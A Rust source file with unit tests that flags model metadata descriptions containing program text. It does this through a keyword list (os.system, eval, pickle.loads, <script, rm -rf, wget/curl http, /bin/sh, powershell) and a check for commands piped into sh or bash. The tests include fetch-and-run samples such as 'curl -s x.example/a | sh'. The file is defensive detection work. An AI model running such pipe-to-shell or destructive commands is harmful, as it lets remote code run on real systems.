//! Program text where only descriptions belong.
//!
//! Nothing runs the metadata of a model by itself. What is put there as a command waits for a tool, a page or a person that
//! does, and no description needs it.

/// Words, in lower case, that a command or a program has and a description has not.
const WORDS: [&str; 20] = [
    "os.system(",
    "os.popen(",
    "subprocess.",
    "__import__(",
    "importlib.",
    "exec(",
    "eval(",
    "pickle.loads(",
    "b64decode(",
    "<script",
    "javascript:",
    "onerror=",
    "rm -rf ",
    "wget http",
    "curl http",
    "curl -",
    "/bin/sh",
    "powershell ",
    "cmd.exe",
    "chmod 777",
];

/// Shells that a command hands on to: after it, a bar and perhaps a space.
const SHELLS: [&str; 2] = ["sh", "bash"];

/// The word that gives a text away as a program, if there is one.
pub fn found_in(text: &str) -> Option<&'static str> {
    let text = text.to_ascii_lowercase();
    let word = WORDS.iter().copied().find(|word| text.contains(word));
    word.or_else(|| text.match_indices('|').find_map(|(at, _)| shell(&text, at)))
}

/// The shell that the command before the bar at `at` is handed on to. One word before it is no command with an argument, and
/// letters after it make it another word (`rows|shape`).
fn shell(text: &str, at: usize) -> Option<&'static str> {
    let (before, after) = (text.get(..at)?.trim(), text.get(at + 1..)?.trim_start());
    let ends = |rest: &str| !rest.starts_with(|next: char| next.is_alphanumeric() || next == '_');
    let shell = SHELLS
        .into_iter()
        .find(|shell| after.strip_prefix(shell).is_some_and(ends));
    shell.filter(|_| before.contains(char::is_whitespace))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_handed_on_to_a_shell_and_a_word_with_a_bar_in_it_is_not() {
        for text in [
            "curl -s x.example/a | sh",
            "base64 -d /tmp/a|bash -s",
            "cat a |  sh; echo",
        ] {
            assert!(found_in(text).is_some(), "{text}");
        }
        for text in ["|sh", "rows|shape", "a table: rows | shape", "| sh", "x|sh"] {
            assert_eq!(found_in(text), None, "{text}");
        }
    }
}
